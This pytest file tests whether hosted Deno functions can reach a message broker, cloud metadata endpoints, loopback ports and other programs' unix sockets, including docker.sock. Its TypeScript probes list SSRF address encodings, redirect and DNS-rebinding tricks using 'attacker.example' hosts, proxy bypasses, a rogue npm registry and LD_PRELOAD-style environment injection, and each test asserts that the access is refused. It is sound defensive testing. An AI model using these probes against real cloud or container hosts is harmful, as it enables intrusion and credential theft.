"""Hosted functions that reach what is closed to them: the broker, metadata addresses, sockets of other programs."""

import json
import os
import socket
import threading
from collections.abc import Iterator
from contextlib import ExitStack, contextmanager, suppress
from pathlib import Path
from urllib.parse import urlsplit

import pytest

from tests.attacks.hosting import Hosting
from tests.attacks.name_server import name_server, platform_with_resolver
from tests.platform import Platform
from workers.functions.sandbox.loopback_wall import open_wall

TRIES = """Deno.serve(async (req) => {
  const { urls = [], hosts = [], sockets = [] } = await req.json(); const got: Record<string, string> = {};
  const net = await import("node:net"); const dgram = await import("node:dgram"); const dns = await import("node:dns/promises");
  const tried = async (name: string, make: () => Promise<unknown>) => { try { got[name] = String(await make()) } catch { /* refused */ } };
  const timed = <T>(promise: Promise<T>) => Promise.race([promise, new Promise<T>((_, no) => setTimeout(() => no("late"), 3000))]);
  for (const url of urls) await tried("fetch " + url, async () => { const r = await fetch(url, { signal: AbortSignal.timeout(3000) }); return r.status + await r.text() });
  for (const url of urls) await tried("import " + url, async () => Object.keys(await import(url)));
  for (const [hostname, port] of hosts) {
    await tried(`connect ${hostname}:${port}`, () => timed(Deno.connect({ hostname, port })));
    await tried(`node ${hostname}:${port}`, () => timed(new Promise((ok, no) => net.connect(port, hostname).once("connect", () => ok("connected")).once("error", no))));
    await tried(`socket ${hostname}:${port}`, () => timed(new Promise((ok, no) => { const s = new WebSocket(`ws://${hostname}:${port}`); s.onopen = () => ok("open"); s.onerror = no })));
  }
  for (const path of sockets) {
    await tried(`unix ${path}`, () => timed(Deno.connect({ transport: "unix", path } as any)));
    await tried(`unix node ${path}`, () => timed(new Promise((ok, no) => net.connect(path).once("connect", () => ok("connected")).once("error", no))));
  }
  await tried("listen", async () => Deno.listen({ hostname: "127.0.0.1", port: 0 }).addr);
  await tried("listen everywhere", async () => Deno.listen({ port: 0 }).addr);
  await tried("listen unix", async () => Deno.listen({ transport: "unix", path: "./own.sock" } as any).addr);
  await tried("raw", async () => await Deno.open("/dev/net/tun"));
  return Response.json(got);
});"""
REBINDS = """Deno.serve(async (req) => {
  const { kinds, port } = await req.json(); const got: Record<string, string> = {}; let count = 0;
  const net = await import("node:net"); const http = await import("node:http"); const tls = await import("node:tls"); const http2 = await import("node:http2");
  const timed = <T>(promise: Promise<T>) => Promise.race([promise, new Promise<T>((_, no) => setTimeout(() => no("late"), 2000))]);
  const once = (one: any, event: string) => new Promise((ok, no) => { one.once(event, () => { ok("connected"); one.destroy?.() }); one.once("error", no) });
  const text = async (r: Promise<Response>) => (await r).status + await (await r).text();
  const through = (proxy: unknown, url = "http://198.51.100.1/") => text(fetch(url, { client: (Deno as any).createHttpClient({ proxy }) } as any));
  const ways: Record<string, (host: string) => Promise<unknown>> = {
    fetch: (host) => text(fetch(`http://${host}:${port}/`)),
    "https fetch": (host) => text(fetch(`https://${host}:${port}/`)),
    connect: async (hostname) => (await Deno.connect({ hostname, port })).close(),
    "connect tls": async (hostname) => (await Deno.connectTls({ hostname, port })).close(),
    socket: (host) => new Promise((ok, no) => { const s = new WebSocket(`ws://${host}:${port}`); s.onopen = () => ok("open"); s.onerror = (e: any) => no(e.message) }),
    "node:net": (host) => once(net.connect(port, host), "connect"),
    "node:http": (host) => once(http.get({ host, port, agent: false } as any), "response"),
    "node:tls": (host) => once(tls.connect(port, host), "secureConnect"),
    "node:http2": (host) => once(http2.connect(`http://${host}:${port}`), "connect"),
    import: (host) => import(`http://${host}:${port}/x.ts`),
    "http proxy": (host) => through({ url: `http://${host}:${port}` }),
    "tcp proxy": (hostname) => through({ transport: "tcp", hostname, port }),
    "socks proxy": (host) => through({ url: `socks5://${host}:${port}` }),
    "hidden socks proxy": (host) => { let read = 0; return through({ get url() { return read++ ? `socks5h://${host}:${port}` : `http://127.0.0.1:${port}` } }) },
    "socks variable": (host) => { Deno.env.set("ALL_PROXY", `socks5://${host}:${port}`); return text(fetch(`http://${host}:${port}/`)) },
    "socks variable of a client": (host) => { Deno.env.set("HTTP_PROXY", `socks5://${host}:${port}`); return text(fetch(`http://${host}:${port}/`, { client: (Deno as any).createHttpClient({}) } as any)) },
  };
  await Promise.all(kinds.flatMap((kind: string) => Object.entries(ways).map(async ([way, go]) => {
    const host = kind.includes("*") ? kind.replace("*", String(count++)) : kind;
    for (let turn = 0; turn < 2; turn++) {
      try { got[`${kind} ${way} ${turn}`] = "reached " + String(await timed(go(host))) }
      catch (e) { got[`${kind} ${way} ${turn}`] = String(e) + String((e as any)?.cause ?? "") + String((e as any)?.code ?? "") }
    }
  })));
  return Response.json(got);
});"""
REFUSALS = (
    "Requires net access",
    "Requires import access",
    "Specifier not found in cache",
    "a proxy of HTTP",
)


@contextmanager
def redirecting(target: str) -> Iterator[str]:
    """Serve a redirect to another address, on a port of this machine."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        answer = f"HTTP/1.1 302 Found\r\nLocation: {target}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n".encode()

        def serve() -> None:
            while True:
                try:
                    one, _ = server.accept()
                except OSError:
                    return
                with one:
                    one.recv(4096)
                    one.sendall(answer)

        threading.Thread(target=serve, daemon=True).start()
        yield f"http://127.0.0.1:{server.getsockname()[1]}/"
        server.shutdown(socket.SHUT_RDWR)


@contextmanager
def listening(path: Path) -> Iterator[None]:
    """Listen on a unix socket that everybody may connect to."""
    with socket.socket(socket.AF_UNIX) as server:
        server.bind(str(path))
        path.chmod(0o777)
        server.listen()
        yield


def nats_port(hosting: Hosting) -> int:
    return int(json.loads((hosting.data / "ports.json").read_text())["nats"])


def local_names() -> list[str]:
    """Return the names that this machine gives to its own addresses: a resolver's answer, not a spelling, leads there."""
    lines = [line.partition("#")[0].split() for line in Path("/etc/hosts").read_text().splitlines()]
    loopback = [line[1:] for line in lines if line and line[0].startswith(("127.", "::1"))]
    return sorted(
        {
            socket.gethostname(),
            "ip6-localhost",
            "x.localhost",
            *(name for names in loopback for name in names),
        }
    )


def test_the_broker_and_metadata_are_closed_under_every_name_and_behind_redirects(hosting: Hosting) -> None:
    port = nats_port(hosting)
    names = [
        "127.0.0.1",
        "localhost",
        "127.1",
        "127.0.0.2",
        "0.0.0.0",
        "::1",
        "::ffff:127.0.0.1",
        "2130706433",
        "0x7f000001",
        "017700000001",
    ]
    rebound = [
        *local_names(),
        "127.0.0.1.nip.io",
        "localtest.me",
        "169.254.169.254.nip.io",
    ]  # names of others that stand for closed addresses
    with (
        redirecting(f"http://127.0.0.1:{port}/") as broker,
        redirecting("http://169.254.169.254/latest/meta-data/") as cloud,
    ):
        urls = [
            broker,
            cloud,
            "http://169.254.169.254/",
            "http://[::ffff:a9fe:a9fe]/",
            "http://2852039166/",
            "http://metadata.google.internal/",
        ]

        got = hosting.run(
            "reaches", TRIES, {"urls": urls, "hosts": [[name, port] for name in [*names, *rebound]]}
        )

    assert got == {}


def test_a_number_for_a_closed_address_is_refused_although_the_query_grants_it(hosting: Hosting) -> None:
    """`Deno.permissions.query` compares the text, a connection the address; only the second is a wall."""
    source = """Deno.serve(async (req) => { const got: Record<string, string> = {};
      for (const hostname of await req.json()) { try { await Deno.connect({ hostname, port: 80 }); got[hostname] = "reached" } catch (e) { got[hostname] = String(e) } }
      return Response.json(got) });"""
    numbers = ["0xa9fea9fe", "2852039166", "0251.0376.0251.0376", "169.254.43518", "::ffff:a9fe:a9fe"]

    got = hosting.run("numbers", source, numbers)

    assert got.keys() == {*numbers}
    assert {
        name: told for name, told in got.items() if 'Requires net access to "169.254.169.254:80"' not in told
    } == {}


def test_no_port_of_loopback_is_reached_but_those_of_its_own_api_and_database(hosting: Hosting) -> None:
    """The listeners stand for another project's mail catcher, broker, gateway and database."""
    names = [
        "127.0.0.1",
        "localhost",
        "127.1",
        "127.9.9.9",
        "0.0.0.0",
        "::",
        "::1",
        "::ffff:127.0.0.1",
        "2130706433",
        "0x7f000001",
    ]
    with ExitStack() as stack:
        servers = [
            stack.enter_context(socket.create_server((host, 0), family=family))
            for family, host in (
                (socket.AF_INET, "127.0.0.1"),
                (socket.AF_INET6, "::1"),
                (socket.AF_INET, "0.0.0.0"),
            )
        ]
        ports = [int(one.getsockname()[1]) for one in servers]
        hosts = [[name, port] for name in [*names, *local_names()] for port in ports]
        urls = [f"http://{name if ':' not in name else f'[{name}]'}:{port}/" for name, port in hosts]
        own = [urlsplit(hosting.platform.values[name]).port for name in ("API_URL", "DB_URL")]

        got = hosting.run("neighbours", TRIES, {"hosts": hosts, "urls": urls})
        reached = hosting.run("owns", TRIES, {"hosts": [["127.0.0.1", port] for port in own]})

    assert got == {}
    assert {f"connect 127.0.0.1:{port}" for port in own} <= reached.keys()


@pytest.mark.skipif(isinstance(open_wall(), str), reason="the kernel's wall needs root and cgroup v2")
def test_a_port_that_is_opened_after_a_function_has_started_is_closed_by_the_kernel(target: Platform) -> None:
    hosting = Hosting(target)
    assert hosting.run("early", TRIES, {}) == {}
    with socket.create_server(("127.0.0.1", 0)) as server:
        place = ["127.0.0.1", server.getsockname()[1]]

        got = json.loads(
            hosting.call("early", {"hosts": [place], "urls": [f"http://{place[0]}:{place[1]}/"]})[1]
        )

    assert got == {}


def test_sockets_of_other_programs_and_functions_are_closed(hosting: Hosting, tmp_path: Path) -> None:
    hosting.deploy("answering", "Deno.serve(() => new Response('answering'));")
    assert hosting.call("answering")[0] == 200
    others = [str(path) for path in hosting.home.glob("run-*/**/*.sock")]
    assert others
    for folder in (tmp_path, *tmp_path.parents[:-2]):
        folder.chmod(0o755)
    with listening(tmp_path / "open.sock"):
        sockets = [
            *others,
            str(tmp_path / "open.sock"),
            "/var/run/docker.sock",
            "/run/dbus/system_bus_socket",
        ]
        sockets += [str(path) for path in Path("/tmp").glob(".s.PGSQL.*")]

        got = hosting.run("connects", TRIES, {"sockets": sockets})

    assert got == {}


@pytest.mark.parametrize("text", ["text", "bytes"])
def test_modules_are_not_fetched_from_this_machine(hosting: Hosting, text: str) -> None:
    url = f"http://127.0.0.1:{nats_port(hosting)}/secret.txt"
    source = (
        f"import got from '{url}' with {{ type: '{text}' }}; Deno.serve(() => Response.json(String(got)));"
    )

    status, told = hosting.deploy(
        "fetched", {"index.ts": source, "deno.json": '{"unstable": ["raw-imports"]}'}
    )

    assert status == 422
    assert "INFO" not in told
    assert "server_id" not in told


def packaged_from(registry: str) -> dict[str, str]:
    """Return the files of a function whose package comes from a registry of its own."""
    return {
        "index.ts": "import { z } from 'npm:zod@3'; Deno.serve(() => Response.json(String(z)));",
        "deno.json": "{}",
        ".npmrc": f"registry=http://{registry}/\n",
    }


def own_address() -> str:
    """Return an address of this machine that is no loopback address: functions may reach it."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        try:
            one.connect(("198.51.100.1", 9))  # of a datagram socket: nothing is sent
        except OSError:
            pytest.skip("this machine has no address but loopback")
        return str(one.getsockname()[0])


@contextmanager
def counting(address: str, port: int) -> Iterator[list[str]]:
    """Answer HTTP on an address, and note each connection."""
    seen: list[str] = []
    with socket.create_server((address, port)) as server:

        def serve() -> None:
            while True:
                try:
                    one, _ = server.accept()
                except OSError:
                    return
                with one:
                    seen.append(address)
                    one.settimeout(2)
                    with suppress(OSError):
                        one.recv(4096)
                        one.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok")

        threading.Thread(target=serve, daemon=True).start()
        yield seen
        server.shutdown(socket.SHUT_RDWR)


@pytest.mark.skipif(os.geteuid() != 0, reason="port 53 and a resolv.conf of its own take root")
def test_a_name_that_changes_its_address_leads_nowhere_closed() -> None:
    public = own_address()
    answers = {
        "closed": lambda turn: ["127.0.0.1", "::1"],
        "later": lambda turn: [public] if turn == 1 else ["127.0.0.1", "::ffff:127.0.0.1"],
        "beside": lambda turn: ["127.0.0.1", "127.0.0.2"],
        "mapped": lambda turn: ["::ffff:127.0.0.1"],
        "metadata": lambda turn: [public] if turn == 1 else ["169.254.169.254"],
    }
    with (
        name_server(lambda name, turn: answers.get(name.partition("-")[0], lambda _: [])(turn)) as server,
        platform_with_resolver() as running,
    ):
        hosting = Hosting(running)
        port = nats_port(hosting)
        with counting(public, port) as seen:
            kinds = [f"{kind}-*.attacker.example" for kind in answers]

            packaged = hosting.deploy("packaged", packaged_from(f"closed-npm.attacker.example:{port}"))
            got = hosting.run("rebinds", REBINDS, {"kinds": [*kinds, "localhost"], "port": port})

    first = {
        name: told
        for name, told in got.items()
        if name.endswith(" 0") and name.startswith(("later", "metadata"))
    }
    assert packaged[0] == 422
    assert "403" in packaged[1]
    assert len(got) == len([*kinds, "localhost"]) * 32
    later = {name: told for name, told in got.items() if name not in first}
    assert any(told.startswith("reached 200ok") for told in first.values())
    assert seen
    assert server.questions["later-0.attacker.example 1"] or len(server.questions) > len(kinds)
    # node:net says nothing where all of several addresses are refused; a connection on this machine takes no two seconds
    refused = (name for name, told in later.items() if told == "late" and " node:" in name)
    expected = {name for name, told in later.items() if any(words in told for words in REFUSALS)}.union(
        refused
    )
    assert {name: told for name, told in later.items() if name not in expected} == {}


def test_a_registry_of_packages_leads_nowhere_closed(hosting: Hosting) -> None:
    status, told = hosting.deploy("packaged", packaged_from(f"localhost:{nats_port(hosting)}"))

    assert status == 422, told
    assert "403" in told, told


@pytest.mark.parametrize("proxy", ["socks5", "socks5h", "SOCKS5"])
def test_no_proxy_leads_to_what_is_closed(hosting: Hosting, proxy: str) -> None:
    source = """Deno.serve(async (req) => { const { url } = await req.json();
      try { const client = (Deno as any).createHttpClient({ proxy: { url } });
        await fetch("http://198.51.100.1/", { client } as any); return Response.json("reached") }
      catch (e) { return Response.json(String(e) + String((e as any).cause)) } });"""

    told = hosting.run("proxied", source, {"url": f"{proxy}://localhost:{nats_port(hosting)}"})

    assert any(words in told for words in REFUSALS), told


@pytest.mark.parametrize(
    ("name", "value"),
    [("LD_PRELOAD", "./own.so"), ("OTEL_DENO", "true"), ("DENO_PERMISSION_BROKER_PATH", "./x"), ("NODE_OPTIONS", "--x"),
     ("GCONV_PATH", "."), ("ALL_PROXY", "socks5://localhost:1")],
)  # fmt: skip
def test_secrets_do_not_steer_what_is_below_the_sandbox(hosting: Hosting, name: str, value: str) -> None:
    status, told = hosting.put_secrets({name: value})

    assert status == 422, told
    assert name in told
